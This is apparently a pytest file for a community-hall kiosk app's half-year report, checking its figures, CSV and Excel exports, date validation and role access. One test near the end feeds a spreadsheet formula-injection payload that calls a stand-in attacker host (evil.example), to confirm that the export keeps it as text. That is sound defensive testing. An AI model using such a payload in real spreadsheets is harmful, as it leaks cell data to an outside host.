"""The half-year report: a known half year of activity, made through the domain actions (with some
just outside the range, which must not count), and every figure checked on the page, on the rows
pages, in the CSVs and in the Excel workbook (opened with openpyxl); bad ranges; who may see it."""
import csv
import html
import io
import re
from datetime import date, datetime, time, timedelta
from statistics import median
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from flask import current_app
from sqlalchemy import select

from kiosk import classes, ledger, lending, people, report, tea, wishes
from kiosk.auth import create_staff
from kiosk.database import write_transaction
from kiosk.extensions import db
from kiosk.lending import hall_today
from kiosk.models import (Activity, ActivitySeat, AgendaItem, Claim, Concern, ConcernStep, JointMeeting, Loan,
                          PartnerUnit, Registration, ResourceMatch, SignUp, StaffUser, Volunteer, Wish, WorkKind,
                          WorkLogEntry)
from tests.conftest import Hall, english_client, token
from tests.test_security import STAFF_PASSWORD, login

# The range: the last half year, wholly past, so everything in it has been held.
START, END = report.last_half_year(date.today())

EXPECTED = {
    "joint_meetings": 2, "agenda_topics": 6, "agenda_resolutions": 3, "agenda_done": 2,
    "tea_held": 2, "tea_residents": 3,
    "concerns_collected": 5, "concerns_resolved": 4, "concerns_median_days": 7.0,
    "wishes_collected": 5, "wishes_claimed": 3, "wishes_fulfilled": 3,
    "matches": 5, "matches_wishes": 2, "matches_activities": 1, "matches_agenda_items": 2,
    "activities_held": 2, "activity_sign_ups": 7, "activity_attendance": 3,
    "signups": 2, "class_sessions": 2, "class_present": 3, "class_rate": 0.75,
    "home_visits": 2, "households_visited": 5, "care_calls": 2, "safety_checks": 1, "awareness_talks": 1,
    "clean_ups": 2, "other_work": 1,
    "tool_loans": 3, "tool_borrowers": 2,
    "volunteer_services": 3, "volunteer_hours": 2.7, "people_served": 2,
}
# How the rows pages and exports (in English) name the values that some figures count.
WORDS = {"present": "Present", "wish": "A wish", "activity": "An activity", "agenda_item": "An agenda item",
         "care_call": "Care call", "safety_check": "Safety check", "awareness_talk": "Awareness talk",
         "clean_up": "Clean-up", "other": "Other work"}


def at(day: date, hour: int = 10, minute: int = 0) -> datetime:
    """A moment in hall time, stored as the app stores moments (naive UTC)."""
    zone = ZoneInfo(current_app.config["TIMEZONE"])
    return datetime.combine(day, time(hour, minute), zone).astimezone(ZoneInfo("UTC")).replace(tzinfo=None)


def d(n: int) -> date:
    return START + timedelta(days=n)


AFTER = END + timedelta(days=1)  # the first day after the range (today or earlier)
BEFORE = START - timedelta(days=1)


def set_rows(model, row_id, **values):
    with write_transaction() as s:
        row = s.get(model, row_id)
        for name, value in values.items():
            setattr(row, name, value)


def concern_timeline(concern_id, created, *steps):
    """The concern was recorded at `created`; its history steps (in order) happened at `steps`."""
    with write_transaction() as s:
        s.get(Concern, concern_id).created_at = created
        for step, moment in zip(s.scalars(select(ConcernStep).where(ConcernStep.concern_id == concern_id)
                                          .order_by(ConcernStep.id)), (created, *steps)):
            step.at = moment


def seed(hall) -> dict:
    """A known half year. Returns what the tests need to look things up."""
    r = [hall.resident(f"1390000000{i}", f"Resident {i}", f"{i}号楼1单元") for i in range(1, 7)]
    staff = hall.admin_id

    # Tool shop: three loans in the range by two residents; one just before, one just after.
    kind = hall.kind()
    tools = [hall.tool(kind) for _ in range(2)]
    for tool, resident, moment in ((tools[0], r[0], at(START, 0, 30)),  # 00:30 hall time, the first day
                                   (tools[1], r[0], at(d(10))),
                                   (tools[0], r[1], at(END, 23, 30)),
                                   (tools[1], r[2], at(BEFORE, 23, 30)),
                                   (tools[0], r[3], at(AFTER, 0, 10))):
        loan = lending.borrow(tool.id, resident, token(), "staff")
        lending.return_tool(tool.id, token(), "fine", None, "staff", staff_id=staff)
        set_rows(Loan, loan.id, borrowed_at=moment, returned_at=moment + timedelta(days=2))

    # Afternoon tea: two held in the range (3 residents), one the day before, one the day after.
    sessions = {}
    for name, day, who in (("T1", d(3), [r[0], r[1]]), ("T2", d(40), [r[0], r[2]]),
                           ("T0", BEFORE, [r[3]]), ("T3", AFTER, [r[4]])):
        session = tea.save_session(tea.SessionFields(day, time(15), time(17), "Hall", name), staff)
        sessions[name] = session.id
        for resident in who:
            tea.sign_in(session.id, resident, "staff")

    # Concerns: collected C1, C2, C3, C4, C6; resolved C1 (0 days), C2 (4), C3 (10), C5 (11).
    def concern(answer=""):
        return ledger.record(ledger.Raised("other", "The lamp is broken", source="walk_in", answer=answer), staff).id

    c1 = concern(answer="Explained on the spot")
    concern_timeline(c1, at(d(3), 16))
    c2 = concern()
    for status in ("referred", "resolved", "informed"):
        ledger.follow_up(c2, "step", staff, status=status, satisfied=True if status == "informed" else None)
    concern_timeline(c2, at(d(5)), at(d(6)), at(d(9)), at(d(12)))
    c3 = concern()
    ledger.follow_up(c3, "done", staff, status="resolved")
    concern_timeline(c3, at(d(20)), at(d(30)))
    c4 = concern()
    ledger.follow_up(c4, "not ours", staff, status="closed_unresolved")
    concern_timeline(c4, at(d(25)), at(d(26)))
    c5 = concern()  # recorded before the range, resolved in it
    ledger.follow_up(c5, "done", staff, status="resolved")
    concern_timeline(c5, at(START - timedelta(days=10)), at(d(1)))
    c6 = concern()  # recorded on the last evening, resolved the day after
    ledger.follow_up(c6, "done", staff, status="resolved")
    concern_timeline(c6, at(END, 20), at(AFTER))
    c7 = concern()  # the evening before
    concern_timeline(c7, at(BEFORE, 23, 30))

    # Wishes, volunteers and partner units.
    v1 = wishes.save_volunteer("Lobsang", "13908911001", "Red Wrench", "general").id
    v2 = wishes.save_volunteer("Dekyi", "13908911002", "Red Wrench", "general")
    u1 = wishes.save_partner_unit("Law firm", "Tsetan", "0891-6331234", "").id
    u2 = wishes.save_partner_unit("Clinic", "Dr Li", "0891-6332345", "").id

    def wish(resident, created, kind="wish"):
        made = wishes.submit(resident, wishes.Request(kind, "daily", "A desk lamp"), token(), "staff", limited=False)
        set_rows(Wish, made.id, created_at=created)
        return made.id

    def on_wall(wish_id):
        wishes.publish(wish_id, "Grandma D.", "Building 3", staff)

    def confirmed(wish_id, when, unit=None, volunteer=None):
        claim = wishes.claim(wish_id, token(), volunteer.mobile if volunteer else None,
                             volunteer.name if volunteer else None, partner_unit_id=unit)
        wishes.confirm_claim(claim.id, staff)
        set_rows(Claim, claim.id, decided_at=when)
        return claim.id

    w1 = wish(r[0], at(d(2)))
    on_wall(w1)
    confirmed(w1, at(d(4)), volunteer=v2)
    wishes.fulfil(w1, wishes.Done(d(8), "Brought a lamp", 90), staff)
    w2 = wish(r[1], at(d(3)))
    on_wall(w2)
    confirmed(w2, at(d(6)), unit=u1)
    wishes.fulfil(w2, wishes.Done(d(50), "Gave advice", 30), staff)
    w3 = wish(r[2], at(START - timedelta(days=5)))  # collected before, taken on by a unit in the range
    on_wall(w3)
    confirmed(w3, at(d(1)), unit=u1)
    w4 = wish(r[2], at(d(10)))  # a claim released; another one confirmed by the fulfilment, after the range
    on_wall(w4)
    first = wishes.claim(w4, token(), v2.mobile, v2.name)
    wishes.confirm_claim(first.id, staff)
    wishes.release_claim(first.id, staff)
    set_rows(Claim, first.id, decided_at=at(d(11)))
    wishes.claim(w4, token(), "13908911003", "Nyima")
    wishes.fulfil(w4, wishes.Done(AFTER, "Done", 600), staff)
    wish(r[3], at(AFTER, 1))  # after the range
    wish(r[4], at(d(60)))  # received, not yet on the wall
    w7 = wish(r[5], at(d(15)))  # taken on by a unit after the range
    on_wall(w7)
    confirmed(w7, at(AFTER, 9), unit=u2)
    w9 = wish(r[0], at(START - timedelta(days=20)), kind="help")  # done in the range by an assigned volunteer
    wishes.assign(w9, v1, staff)
    wishes.fulfil(w9, wishes.Done(d(1), "Helped with the form", 42), staff)

    # Classes: two registrations in the range (one before, one after); dates held d5 and d12 (d19
    # cancelled after marking, one date before and one after the range): 3 present of 4 marks.
    today = hall_today()
    course = classes.save_course(classes.CourseFields(
        "ENGLISH", "英语", "དབྱིན་ཡིག", "English", "", "", "", None, 6, 13, 2,
        START - timedelta(days=30), today + timedelta(days=30)))
    regs = {}
    for name, guardian, created in (("Ann", r[0], at(d(1))), ("Bo", r[1], at(d(2))),
                                    ("Cy", r[2], at(START - timedelta(days=3))), ("Di", r[3], at(AFTER))):
        registration = classes.register(course.id, guardian, name, 8, None, True, token(), "staff")
        set_rows(Registration, registration.id, created_at=created)
        regs[name] = registration.id
    dates = {}
    for day in (d(5), d(12), d(19), START - timedelta(days=2), AFTER):
        classes.add_schedule(course.id, "term", [day.weekday()], time(9), time(11), day, day)
        dates[day] = classes.sessions(course.id, start=day, limit=1)[0].id
    for day, marks in ((d(5), {"Ann": "present", "Bo": "present"}), (d(12), {"Ann": "present", "Bo": "absent"}),
                       (d(19), {"Ann": "present"}), (START - timedelta(days=2), {"Ann": "present"}),
                       (AFTER, {"Ann": "present", "Bo": "excused"})):
        for child, mark in marks.items():
            classes.mark(dates[day], regs[child], mark, staff)
    classes.cancel_date(dates[d(19)], "Holiday", staff)
    community = seed_community(staff, r, units=(u1, u2), volunteers=(v1, v2.id), wishes_of_units=(w2, w3, w7),
                               concerns=(c3, c4))
    return {"residents": r, "course": course.id, "registrations": regs, **community}


def seed_community(staff, r, units, volunteers, wishes_of_units, concerns) -> dict:
    """Issue 10: activities and sign-ups, the work log, joint meetings and their items, resource
    matches; as model rows, inside the range and just outside it."""
    u1, u2 = units
    v1, v2 = volunteers
    w2, w3, w7 = wishes_of_units
    with write_transaction() as s:
        u3 = PartnerUnit(name="Supermarket", contact_name="Mr Wang", contact_phone="0891-6334567")
        s.add(u3)
        other = StaffUser(username="fieldworker", display_name="Field worker", password_hash="x", role="staff")
        s.add(other)
        flood = WorkKind(name_zh="防汛巡查", name_en="Flood watch")
        s.add(flood)
        s.flush()
        kinds = {k.key: k for k in s.scalars(select(WorkKind))}
        kinds["custom"] = flood

        # Activities: A1 and A2 held in the range; A3 cancelled; A0 the day before; A4 the day after.
        def activity(code, day, cancelled=False, **kw):
            made = Activity(code=code, title_zh=f"活动 {code}", day=day, starts_at=time(9), ends_at=time(11),
                            place="Hall", cancelled_at=at(day) if cancelled else None, created_by_id=staff, **kw)
            s.add(made)
            s.flush()
            s.add_all(ActivitySeat(activity_id=made.id, number=n) for n in range(1, 11))
            s.flush()
            return made

        a0 = activity("A0", BEFORE)
        a1 = activity("A1", d(7), organiser="partner", partner_unit_id=u1, capacity=10)
        a2 = activity("A2", d(30), organiser="team", team="Red Wrench")
        a3 = activity("A3", d(40), cancelled=True)
        a4 = activity("A4", AFTER)
        n = iter(range(1, 100))

        def sign_up(a, resident, created, status="confirmed", attended=None):
            k = next(n)
            s.add(SignUp(activity_id=a.id, receipt=f"RC{k:06d}", form_token=token(), resident_id=resident,
                         status=status, seat=k if status == "confirmed" else None,
                         wait_ticket=k if status == "waiting" else None, channel="phone", created_at=created,
                         attended=attended))

        sign_up(a0, r[0], at(BEFORE - timedelta(days=3)), attended=True)  # before: neither counts
        sign_up(a1, r[0], at(d(1)), attended=True)
        sign_up(a1, r[1], at(d(2)), attended=False)
        sign_up(a1, r[2], at(d(3)), status="waiting")
        sign_up(a1, r[3], at(BEFORE, 23, 30), status="cancelled")  # signed up before the range
        sign_up(a2, r[0], at(d(20)), attended=True)
        sign_up(a2, r[4], at(d(21)), attended=True)
        sign_up(a3, r[1], at(d(35)), attended=True)  # a sign-up; the activity was cancelled
        sign_up(a4, r[5], at(END, 23, 30), attended=True)  # a sign-up; held after the range

        # The work log: 2 home visits (5 households), 2 care calls, a safety check, a talk, 2
        # clean-ups and one entry of a kind staff added; one visit before and a call after.
        def work(kind, day, households=0, staff_ids=(staff,), volunteer_ids=()):
            entry = WorkLogEntry(kind_id=kinds[kind].id, day=day, households=households, form_token=token(),
                                 recorded_by_id=staff)
            entry.staff = [s.get(StaffUser, i) for i in staff_ids]
            entry.volunteers = [s.get(Volunteer, i) for i in volunteer_ids]
            s.add(entry)

        work("home_visit", d(2), 3, volunteer_ids=(v1,))
        work("home_visit", END, 2, staff_ids=(staff, other.id))
        work("home_visit", BEFORE, 5)
        work("care_call", START)
        work("care_call", d(50))
        work("care_call", AFTER)
        work("safety_check", d(10))
        work("awareness_talk", d(11), volunteer_ids=(v1, v2))
        work("clean_up", d(12), volunteer_ids=(v2,))
        work("clean_up", d(13))
        work("custom", d(14))

        # Joint meetings: M1 and M2 held in the range, M0 before and M3 after, with their items.
        def meeting(day, chair, present):
            made = JointMeeting(day=day, place="Hall", chair_unit_id=chair, created_by_id=staff)
            made.units = [s.get(PartnerUnit, i) for i in present]
            s.add(made)
            s.flush()
            return made

        def item(m, status, resolution="", source="partner", concern=None, closed=None, owner=None):
            made = AgendaItem(meeting_id=m.id, source=source, concern_id=concern, topic=f"Topic {status}",
                              suggested_by_unit_id=u2 if source == "partner" else None, resolution=resolution,
                              owner_unit_id=owner, status=status, closed_at=closed, due_on=d(60))
            s.add(made)
            s.flush()
            return made.id

        m0, m1 = meeting(BEFORE, u1, (u1, u2)), meeting(d(10), u1, (u1, u2, u3.id))
        m2, m3 = meeting(d(100), u2, (u1, u2)), meeting(AFTER, u2, (u2,))
        item(m0, "done", "Fixed", closed=at(d(5)), owner=u1)  # done in the range, discussed before it
        item(m1, "done", "Monthly advice morning", source="concern", concern=concerns[0], closed=at(d(30)),
             owner=u1)
        item(m1, "proposed")
        i3 = item(m1, "resolved", "The clinic checks blood pressure", source="staff", owner=u2)
        i4 = item(m2, "in_progress", "New bins at the east gate", source="concern", concern=concerns[1])
        item(m2, "dropped")
        item(m2, "resolved", "   ")  # nothing written down: not a resolution
        item(m3, "done", "Done after", closed=at(AFTER, 12))

        # Resource matches: 2 wishes, an activity and 2 agenda items in the range; 2 after. The
        # wishes' matches exist (kiosk.wishes records one when a unit's claim is confirmed): dated here.
        for unit, kind, ref, day in ((u1, "wish", w2, d(6)), (u1, "wish", w3, d(1)), (u2, "wish", w7, AFTER),
                                     (u1, "activity", a1.id, START), (u2, "activity", a4.id, AFTER),
                                     (u2, "agenda_item", i3, d(10)), (u1, "agenda_item", i4, END)):
            made = s.scalar(select(ResourceMatch).where(ResourceMatch.partner_unit_id == unit,
                                                        getattr(ResourceMatch, f"{kind}_id") == ref))
            if made is None:  # a wish's match was recorded when the unit's claim was confirmed
                made = ResourceMatch(partner_unit_id=unit, kind=kind, recorded_by_id=staff, **{f"{kind}_id": ref})
                s.add(made)
            made.day = day
    return {"fieldworker": other.id}


def test_last_half_year_and_half_year():
    assert report.half_year(date(2026, 11, 23)) == (date(2026, 7, 1), date(2026, 12, 31))
    assert report.half_year(date(2026, 6, 30)) == (date(2026, 1, 1), date(2026, 6, 30))
    assert report.last_half_year(date(2026, 11, 23)) == (date(2026, 1, 1), date(2026, 6, 30))
    assert report.last_half_year(date(2026, 1, 1)) == (date(2025, 7, 1), date(2025, 12, 31))


def test_every_figure_of_a_known_half_year(any_hall):
    """On SQLite and PostgreSQL: each figure, and each figure traced to its rows."""
    seeded = seed(any_hall)
    residents = seeded["residents"]
    p = report.period(START, END)
    values = report.measure(p)
    assert values == EXPECTED
    assert [f.key for f in report.FIGURES] == list(EXPECTED)
    for f in report.FIGURES:
        found = report.rows(f.row_stmt(p), f.rows.columns)
        keys = [c.key for c in f.rows.columns]
        if f.measure == "count":
            assert len(found) == values[f.key], f.key
        elif f.measure == "sum":
            assert round(sum(row[keys.index(f.column)] for row in found) / f.scale, 1) == values[f.key]
        elif f.measure == "median":
            assert round(median(row[keys.index(f.column)] for row in found), 1) == values[f.key]
        else:
            column = [row[keys.index(f.column)] for row in found]
            assert column.count(f.only) / len(column) == values[f.key]
    # The rows name residents by number only: the first resident borrowed twice, the second once.
    borrowers = report.rows(report.figure("tool_borrowers").row_stmt(p), report.BORROWERS.columns)
    assert borrowers == [[f"R-{residents[0]:05d}", 2], [f"R-{residents[1]:05d}", 1]]
    # The work log names staff and volunteers by number: S-00001, V-00001.
    visits = report.rows(report.figure("home_visits").row_stmt(p), report.HOME_VISITS.columns)
    keys = [c.key for c in report.HOME_VISITS.columns]
    volunteer = db.session.scalar(select(Volunteer.id).where(Volunteer.mobile == "13908911001"))
    assert [(row[keys.index("households")], sorted((row[keys.index("staff")] or "").split()),
             row[keys.index("volunteers")]) for row in visits] == [
        (3, [f"S-{any_hall.admin_id:05d}"], f"V-{volunteer:05d}"),
        (2, sorted([f"S-{any_hall.admin_id:05d}", f"S-{seeded['fieldworker']:05d}"]), None)]


def test_held_means_not_after_today_and_not_cancelled(any_hall):
    today = hall_today()
    staff = any_hall.admin_id
    for day in (today - timedelta(days=1), today + timedelta(days=1)):
        tea.save_session(tea.SessionFields(day, time(15), time(17), "Hall"), staff)
    course = classes.save_course(classes.CourseFields(
        "ART", "画画", "རི་མོ", "Drawing", "", "", "", None, 6, 13, 5, today - timedelta(days=10),
        today + timedelta(days=10)))
    for day in (today - timedelta(days=2), today - timedelta(days=1), today + timedelta(days=1)):
        classes.add_schedule(course.id, "term", [day.weekday()], time(9), time(11), day, day)
    cancelled = classes.sessions(course.id, start=today - timedelta(days=1), limit=1)[0]
    classes.cancel_date(cancelled.id, "Rain", staff)
    values = report.measure(report.period(today - timedelta(days=3), today + timedelta(days=3)))
    assert values["tea_held"] == 1
    assert values["class_sessions"] == 1
    # No marks and no resolved concerns: no rate and no median, rather than a made-up 0.
    assert values["class_rate"] is None and values["concerns_median_days"] is None


def test_a_start_after_the_end_is_refused(any_hall):
    with pytest.raises(report.Refusal) as refused:
        report.period(date(2026, 7, 2), date(2026, 7, 1))
    assert refused.value.field == "end"


def test_the_period_is_counted_in_hall_time(any_hall):
    p = report.period(date(2026, 7, 1), date(2026, 7, 1))
    # Asia/Shanghai: 1 July 00:00 is 30 June 16:00 UTC.
    assert (p.since, p.until) == (datetime(2026, 6, 30, 16), datetime(2026, 7, 1, 16))


def test_the_registry_can_be_extended(any_hall):
    """Another part of the hall adds a figure to an area; figures keep the order of the areas."""
    extra = report.Figure("matches_test", "matches", "Test matches", report.RESOURCE_MATCHES)
    report.add_figure(extra)
    try:
        assert extra in report.figures_of("matches")
        areas = [a.key for a in report.AREAS]
        assert [areas.index(f.area) for f in report.FIGURES] == sorted(areas.index(f.area) for f in report.FIGURES)
        assert report.measure(report.period(START, END), [extra]) == {"matches_test": 0}
        with pytest.raises(ValueError):
            report.add_figure(extra)
    finally:
        report.FIGURES.remove(extra)


# --- Through HTTP (SQLite) -------------------------------------------------------------------

RANGE = f"start={START.isoformat()}&end={END.isoformat()}"


@pytest.fixture
def seeded(app, hall):
    seed(hall)
    client = english_client(app)
    login(client)
    return client


def page_figures(page: str) -> dict[str, str]:
    return dict(re.findall(r'id="figure-(\w+)"[^>]*>\s*<span class="num" data-value="([^"]*)"', page))


def number(text: str):
    return None if text == "" else float(text) if "." in text else int(text)


def test_the_report_page_shows_every_figure_and_links_to_its_rows(seeded):
    response = seeded.get(f"/staff/report?{RANGE}")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert {k: number(v) for k, v in page_figures(page).items()} == EXPECTED
    assert "2.7" in page and "75.0%" in page
    for key, value in EXPECTED.items():
        href = html.unescape(re.search(rf'id="figure-{key}" href="([^"]+)"', page).group(1))
        rows_page = seeded.get(href)
        assert rows_page.status_code == 200, key
        body = rows_page.get_data(as_text=True)
        shown_rows = body.split("<tbody>")[1].split("</tbody>")[0].count("<tr>") if "<tbody>" in body else 0
        figure = report.figure(key)
        if figure.measure == "count":
            assert shown_rows == value, key
        csv_rows = list(csv.reader(io.StringIO(seeded.get(href.replace(f"/rows/{key}?", f"/rows/{key}.csv?"))
                                               .get_data(as_text=True).lstrip("\ufeff"))))
        assert len(csv_rows) - 1 == shown_rows, key
        header = csv_rows[0]
        if figure.measure == "sum":
            label = str(next(c.label for c in figure.rows.columns if c.key == figure.column))
            summed = [int(row[header.index(label)]) for row in csv_rows[1:]]
            assert round(sum(summed) / figure.scale, 1) == value, key
        if figure.measure == "median":
            days = [float(row[header.index("Days to resolve")]) for row in csv_rows[1:]]
            assert round(median(days), 1) == value
        if figure.measure == "share":
            marks = [row[header.index("Attendance")] for row in csv_rows[1:]]
            assert marks.count("Present") / len(marks) == value


def test_the_page_keeps_its_figures_a_while_for_each_range_day_and_language(app, monkeypatch, cache_clock):
    """A range that has ended is kept ENDED_SECONDS, one that reaches today LIVE_SECONDS; another
    language, or a new day within the range, is worked out at once; the rows pages are live. The
    records are made in app contexts of their own, so that each request has its own (and its own
    language), as in the hall."""
    clock = cache_clock
    with app.app_context():
        hall = Hall()
        today = hall_today()
        start, end = report.last_half_year(today)

    def tea_on(day):
        with app.app_context():
            tea.save_session(tea.SessionFields(day, time(15), time(17), "Hall"), hall.admin_id)

    def held(client, first, last) -> int:
        page = client.get(f"/staff/report?start={first}&end={last}").get_data(as_text=True)
        return number(page_figures(page)["tea_held"])

    english, chinese = english_client(app), app.test_client()
    login(english)
    login(chinese)

    tea_on(start + timedelta(days=3))
    assert held(english, start, end) == 1
    tea_on(start + timedelta(days=4))  # written down late: a correction
    clock.advance(report.ENDED_SECONDS - 1)
    assert held(english, start, end) == 1
    rows = english.get(f"/staff/report/rows/tea_held?start={start}&end={end}").get_data(as_text=True)
    assert 'id="figure-value">2<' in rows  # the rows page reads them live
    assert held(chinese, start, end) == 2  # the other language's figures are its own
    clock.advance(2)
    assert held(english, start, end) == 2

    first, last = today - timedelta(days=1), today + timedelta(days=1)
    tea_on(first)
    tea_on(last)
    assert held(english, first, last) == 1  # tomorrow's tea is not held yet
    tea_on(today)
    clock.advance(report.LIVE_SECONDS - 1)
    assert held(english, first, last) == 1
    clock.advance(2)
    assert held(english, first, last) == 2
    monkeypatch.setattr(report, "hall_today", lambda: last)
    monkeypatch.setattr(lending, "hall_today", lambda: last)  # the day every page goes by
    assert held(english, first, last) == 3  # a new day: worked out afresh, with the day's tea held


def test_rows_carry_numbers_not_names_or_mobiles(seeded):
    for key in ("tool_loans", "tool_borrowers", "tea_residents", "people_served", "wishes_fulfilled",
                "activity_attendance"):
        body = seeded.get(f"/staff/report/rows/{key}.csv?{RANGE}").get_data(as_text=True)
        assert "R-0000" in body
        assert "Resident" not in body.replace("Resident number", "") and "1390000000" not in body


def test_the_summary_csv(seeded):
    response = seeded.get(f"/staff/report.csv?{RANGE}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["Part of the report", "Figure", "Value", "First day", "Last day"]
    got = {row[1]: row[2] for row in rows[1:]}
    for f in report.FIGURES:
        expected = EXPECTED[f.key]
        assert got[str(f.label)] == ("75.0%" if f.unit == "percent" else str(expected)), f.key
    assert all(row[3:] == [START.isoformat(), END.isoformat()] for row in rows[1:])


def test_the_excel_workbook(seeded):
    response = seeded.get(f"/staff/report.xlsx?{RANGE}")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    titles = book.sheetnames
    assert len(titles) == 1 + len(report.AREAS) and len(set(titles)) == len(titles)
    assert all(len(t) <= 31 for t in titles)
    summary = book.worksheets[0]
    assert summary.freeze_panes == "A2"
    header = [c.value for c in summary[1]]
    assert header == ["Part of the report", "Figure", "Value", "Rows in sheet", "Rows of", "Number of rows"]
    lines = [row for row in summary.iter_rows(min_row=2, max_row=1 + len(report.FIGURES), values_only=True)]
    assert [line[1] for line in lines] == [str(f.label) for f in report.FIGURES]
    for f, (area, label, value, sheet_title, rows_of, n) in zip(report.FIGURES, lines):
        assert value == EXPECTED[f.key], f.key
        sheet = book[sheet_title]
        assert sheet.freeze_panes == "A2"
        head = [c.value for c in sheet[1]]
        mine = [row for row in sheet.iter_rows(min_row=2, values_only=True) if row[0] == rows_of]
        assert len(mine) == n, f.key
        if f.measure == "count" and f.only is None:
            assert n == value, f.key
        elif f.measure == "count":
            column = head.index(str(next(c.label for c in f.rows.columns if c.key == f.column)))
            assert sum(1 for row in mine if row[column] == WORDS[f.only]) == value, f.key
        elif f.measure == "sum":
            column = head.index(str(next(c.label for c in f.rows.columns if c.key == f.column)))
            assert round(sum(row[column] for row in mine) / f.scale, 1) == value, f.key
        elif f.measure == "median":
            assert round(median(row[head.index("Days to resolve")] for row in mine), 1) == value
        else:
            marks = [row[head.index("Attendance")] for row in mine]
            assert marks.count("Present") / len(marks) == value
    # Dates are real dates, in hall time; the period is written under the figures.
    loans = book["Tool shop"]
    head = [c.value for c in loans[1]]
    first = next(loans.iter_rows(min_row=2, max_row=2))
    borrowed = first[head.index("Borrowed")]
    assert borrowed.is_date and borrowed.value == datetime.combine(START, time(0, 30))
    assert first[head.index("Due back")].is_date
    tail = {row[0]: row[1] for row in summary.iter_rows(min_row=2 + len(report.FIGURES), values_only=True) if row[0]}
    assert tail["First day"].date() == START and tail["Last day"].date() == END


@pytest.mark.parametrize("query, field, message", [
    ("start=2026-02-30&end=2026-06-30", "start", "Please give a date like 2025-03-01."),
    ("start=2026-07-01&end=tomorrow", "end", "Please give a date like 2025-03-01."),
    ("start=2026-07-02&end=2026-07-01", "end", "The last day must not be before the first day."),
])
def test_a_bad_range_is_refused_next_to_its_field(app, hall, query, field, message):
    client = english_client(app)
    login(client)
    for path in ("/staff/report", "/staff/report.xlsx", "/staff/report.csv", "/staff/report/rows/tool_loans"):
        response = client.get(f"{path}?{query}")
        assert response.status_code == 422, path
        page = response.get_data(as_text=True)
        assert re.search(rf'<p class="error" id="{field}-error"[^>]*>{re.escape(message)}</p>', page), path
        assert 'id="figure-' not in page


def test_by_default_the_current_half_year(app, hall):
    client = english_client(app)
    login(client)
    page = client.get("/staff/report").get_data(as_text=True)
    start, end = report.half_year(hall_today())
    assert f'value="{start.isoformat()}"' in page and f'value="{end.isoformat()}"' in page
    last = report.last_half_year(hall_today())
    assert f"/staff/report?start={last[0].isoformat()}&amp;end={last[1].isoformat()}" in page
    assert 'href="/staff/report"' in page  # the menu entry


def test_an_unknown_figure_is_404(app, hall):
    client = english_client(app)
    login(client)
    assert client.get("/staff/report/rows/nothing").status_code == 404


@pytest.mark.parametrize("role", ["teacher", "coordinator"])
def test_teachers_and_coordinators_may_not_see_the_report(app, hall, role):
    create_staff("someone", STAFF_PASSWORD, role=role)
    client = english_client(app)
    login(client, "someone", STAFF_PASSWORD)
    for path in ("/staff/report", "/staff/report.xlsx", "/staff/report.csv", "/staff/report/rows/tool_loans",
                 "/staff/report/rows/tool_loans.csv"):
        assert client.get(path).status_code == 403, path


def test_staff_see_the_report(app, hall):
    create_staff("worker", STAFF_PASSWORD, role="staff")
    client = english_client(app)
    login(client, "worker", STAFF_PASSWORD)
    assert client.get("/staff/report").status_code == 200


def test_erasing_residents_keeps_the_figures(any_hall):
    """Erasure removes names and mobiles but keeps the rows the report counts."""
    seeded = seed(any_hall)
    for registration in seeded["registrations"].values():  # the guardians give up their places
        classes.cancel(registration, by="staff", staff_id=any_hall.admin_id)
    with write_transaction() as s:  # and their places at activities
        for place in s.scalars(select(SignUp).where(SignUp.status.in_(("confirmed", "waiting")))):
            place.status, place.seat, place.ended_at = "cancelled", None, place.created_at
    p = report.period(START, END)
    for resident in seeded["residents"][:2]:  # borrowers, tea guests, served, guardians
        assert not people.erase(resident).already
    assert report.measure(p) == EXPECTED


def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(client, hall):
    """A tea's theme typed as =HYPERLINK(...) must not run when the office opens the workbook."""
    from io import BytesIO

    from openpyxl import load_workbook

    from kiosk import tea

    login(client)
    day = hall_today() - timedelta(days=1)
    tea.save_session(tea.SessionFields(day, time(15), time(17), "=1+1",
                                       '=HYPERLINK("http://evil.example/?"&A1,"click")'), hall.admin_id)
    start, end = day.replace(day=1), day
    response = client.get(f"/staff/report.xlsx?start={start}&end={end}")
    book = load_workbook(BytesIO(response.data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)


@pytest.mark.parametrize("query", ["start=0001-01-01", "end=9999-12-31", "start=2026-02-30"])
def test_dates_out_of_the_hall_years_are_refused_next_to_the_field(client, hall, query):
    login(client)
    for path in ("/staff/report", "/staff/report.xlsx", "/staff/report.csv"):
        response = client.get(f"{path}?{query}")
        assert response.status_code == 422, (path, query)
